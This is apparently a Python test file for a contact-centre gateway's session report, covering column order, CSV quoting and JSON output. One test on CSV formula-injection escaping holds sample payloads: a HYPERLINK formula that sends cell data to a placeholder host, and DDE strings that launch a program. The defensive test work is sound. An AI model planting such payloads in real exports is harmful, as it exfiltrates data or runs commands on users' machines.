"""The session report: columns (a contract), rows from the public session object, CSV and JSON."""

from __future__ import annotations

import csv
import io
import json

from gateway.events import Channel, Customer
from gateway.records.report import (
    REPORT_COLUMNS,
    report_row,
    report_rows,
    to_csv,
    to_json,
)
from gateway.sessions import Account, AccountState, Outcome, Session, SessionState

T0 = 1_700_000_000.0

HEADER = (
    "session_id,interaction_id,vendor,channel,agent_id,queue,offered_at,accepted_at,ended_at,"
    "closed_at,handle_ms,wrap_ms,focus_ms,outcome,account_id,transferred_from,transferred_to"
)


def closed_session() -> Session:
    session = Session(
        id="s1",
        agent_id="a1001",
        channel=Channel.VOICE,
        vendor="pbx-berlin",
        interaction_id="call-1",
        offered_at=T0,
        queue="support",
        customer=Customer(address="+4930123456", name="Grace"),
        account=Account(AccountState.CONFIRMED, "acct-42"),
        transferred_from="s0",
    )
    session.accepted_at = T0 + 2.5
    session.enter_focus(T0 + 2.5)
    session.leave_focus(T0 + 10.0)
    session.ended_at = T0 + 62.5
    session.closed_at = T0 + 72.5
    session.state = SessionState.CLOSED
    session.outcome = Outcome.COMPLETED
    return session


def test_columns_are_the_documented_header() -> None:
    assert ",".join(REPORT_COLUMNS) == HEADER
    assert len(set(REPORT_COLUMNS)) == len(REPORT_COLUMNS)


def test_row_from_a_real_session_object() -> None:
    row = report_row(closed_session().as_dict(T0 + 100))
    assert list(row) == list(REPORT_COLUMNS)
    assert row == {
        "session_id": "s1",
        "interaction_id": "call-1",
        "vendor": "pbx-berlin",
        "channel": "voice",
        "agent_id": "a1001",
        "queue": "support",
        "offered_at": "2023-11-14T22:13:20.000Z",
        "accepted_at": "2023-11-14T22:13:22.500Z",
        "ended_at": "2023-11-14T22:14:22.500Z",
        "closed_at": "2023-11-14T22:14:32.500Z",
        "handle_ms": 60_000,
        "wrap_ms": 10_000,
        "focus_ms": 7_500,
        "outcome": "completed",
        "account_id": "acct-42",
        "transferred_from": "s0",
        "transferred_to": None,
    }


def test_row_of_an_open_manual_session_has_none_fields() -> None:
    manual = Session(
        id="s2",
        agent_id="a1001",
        channel=Channel.MANUAL,
        vendor=None,
        interaction_id=None,
        offered_at=T0,
        state=SessionState.ACTIVE,
        accepted_at=T0,
    )
    row = report_row(manual.as_dict(T0 + 1))
    assert row["session_id"] == "s2"
    assert row["channel"] == "manual"
    for column in (
        "interaction_id",
        "vendor",
        "queue",
        "ended_at",
        "closed_at",
        "handle_ms",
        "wrap_ms",
        "outcome",
        "account_id",
        "transferred_from",
        "transferred_to",
    ):
        assert row[column] is None, column
    assert row["focus_ms"] == 0


def test_row_tolerates_missing_keys_and_account() -> None:
    row = report_row({"id": "s9", "account": None})
    assert row["session_id"] == "s9"
    assert all(row[c] is None for c in REPORT_COLUMNS if c != "session_id")


def test_rows_from_journal_state_dicts_read_the_record() -> None:
    obj = closed_session().as_dict(T0 + 100)
    state = {"id": "s1", "state": "closed", "offered_at": T0, "record": obj}
    assert report_rows([state]) == [report_row(obj)]


def test_csv_header_first_and_empty_fields_for_none() -> None:
    rows = [
        report_row(closed_session().as_dict(T0 + 100)),
        report_row(
            {"id": "s3", "channel": "chat", "agent_id": "a1002", "account": {"state": "unidentified", "id": None}}
        ),
    ]
    text = to_csv(rows)
    lines = text.split("\r\n")
    assert lines[0] == HEADER
    assert lines[1] == (
        "s1,call-1,pbx-berlin,voice,a1001,support,2023-11-14T22:13:20.000Z,2023-11-14T22:13:22.500Z,"
        "2023-11-14T22:14:22.500Z,2023-11-14T22:14:32.500Z,60000,10000,7500,completed,acct-42,s0,"
    )
    assert lines[2] == "s3,,,chat,a1002" + "," * 12
    assert lines[3] == ""  # CRLF after the last record too
    assert len(lines) == 4


def test_csv_quotes_per_rfc4180_and_round_trips() -> None:
    nasty = 'queue, "vip"\r\nsecond line'
    row = report_row({"id": "s4", "queue": nasty, "interaction_id": "plain", "account": {"id": "a,b"}})
    text = to_csv([row])
    assert '"queue, ""vip""\r\nsecond line"' in text
    assert '"a,b"' in text
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == list(REPORT_COLUMNS)
    assert parsed[1][REPORT_COLUMNS.index("queue")] == nasty
    assert parsed[1][REPORT_COLUMNS.index("account_id")] == "a,b"
    assert len(parsed) == 2


def test_csv_escapes_text_cells_a_spreadsheet_would_run_as_formulas() -> None:
    # values a vendor controls (interaction ids, queue names, account ids) reach the report
    formulas = {
        "interaction_id": '=HYPERLINK("http://evil.example/"&A1,"open")',
        "queue": "+1+cmd|' /C calc'!A0",
        "account_id": "-2+3",
        "transferred_from": "@SUM(1+1)*cmd|' /C calc'!A0",
        "transferred_to": "\t=1+1",
        "vendor": "\r=1+1",
    }
    session = {"id": "s9", "handle_ms": 0, "focus_ms": 1500, "outcome": "completed", **formulas}
    session["account"] = {"id": formulas["account_id"]}
    parsed = list(csv.reader(io.StringIO(to_csv([report_row(session)]), newline="")))
    cells = dict(zip(REPORT_COLUMNS, parsed[1], strict=True))
    for column, value in formulas.items():
        assert cells[column] == "'" + value, column
    # numbers and harmless text are written as they are
    assert (cells["session_id"], cells["handle_ms"], cells["focus_ms"]) == ("s9", "0", "1500")
    assert cells["outcome"] == "completed"
    # the JSON report keeps the values untouched
    assert to_json([report_row(session)])[0]["queue"] == formulas["queue"]


def test_csv_of_no_rows_is_the_header_alone() -> None:
    assert to_csv([]) == HEADER + "\r\n"


def test_json_rows_keep_types_nulls_and_column_order() -> None:
    row = report_row(closed_session().as_dict(T0 + 100))
    out = to_json([row, {"session_id": "s5"}])
    assert list(out[0]) == list(REPORT_COLUMNS)
    assert out[0]["handle_ms"] == 60_000
    assert out[1]["session_id"] == "s5"
    assert out[1]["outcome"] is None
    assert list(out[1]) == list(REPORT_COLUMNS)
    json.dumps(out)  # JSON-able as is
